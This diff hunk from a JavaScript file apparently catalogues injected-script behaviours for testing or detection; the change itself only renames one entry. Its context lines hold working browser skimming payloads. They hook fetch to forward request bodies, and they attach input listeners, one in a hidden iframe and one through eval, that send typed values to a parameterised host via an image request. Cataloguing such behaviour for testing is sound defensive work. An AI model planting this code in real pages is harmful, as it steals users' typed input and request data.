@@ -95,7 +95,7 @@ const typed = effectsOf(
       `var n=W.fetch;W.fetch=function(u,o){${at.send("String(o&&o.body||'')")};return n.apply(this,arguments)}`,
     'listener of a fresh frame': (at) =>
       `var f=D.createElement('iframe');f.style.display='none';D.body.appendChild(f);D.addEventListener('input',f.contentWindow.Function('e',${quoted(`e.target.value.length>9&&(new Image().src=${quoted(`${at.url('c')}?`)}+e.target.value)`)}))`,
-    'text in the page': (at) =>
+    'listener by text in the page': (at) =>
       `W.eval(${quoted(`addEventListener('input',function(e){e.target.value.length>9&&(new Image().src=${quoted(`${at.url('c')}?`)}+e.target.value)})`)})`,
   },
   { isNeverMeant: true, isEarly: true },
